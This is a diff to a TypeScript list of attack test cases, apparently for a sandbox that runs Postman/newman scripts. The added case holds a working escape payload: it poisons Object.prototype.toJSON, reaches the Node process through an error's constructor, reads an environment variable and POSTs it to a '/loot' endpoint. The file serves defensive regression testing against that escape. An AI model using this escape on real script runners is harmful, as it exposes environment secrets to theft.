@@ -18,6 +18,22 @@ export const lies: readonly Attack[] = [
     asked: upToCase.slice(0, 2),
   },
   {
+    name: 'the known escape of newman 6.2.2, as it works there',
+    why: 'newman pull request 3363: a script catches an error of the host, and has the environment',
+    exit: 5,
+    codes: ['runner-failed'],
+    entry: {
+      before: `
+Object.prototype.toJSON = function () { return undefined; };
+var loot = "nothing";
+try { console.log("x"); } catch (error) { loot = error.constructor.constructor("return process")().env.CANARY; }
+delete Object.prototype.toJSON;
+pm.sendRequest({ url: pm.variables.replaceIn("{{base_url}}/loot"), method: "POST", body: { mode: "raw", raw: loot } }, function () {});
+`,
+    },
+    asked: upToCase.slice(0, 2),
+  },
+  {
     name: 'JSON.parse poisoned: every answer is what was expected',
     why: 'scripts share one realm: a list can deceive itself about bodies, as SECURITY.md says, never about a status',
     exit: 0,
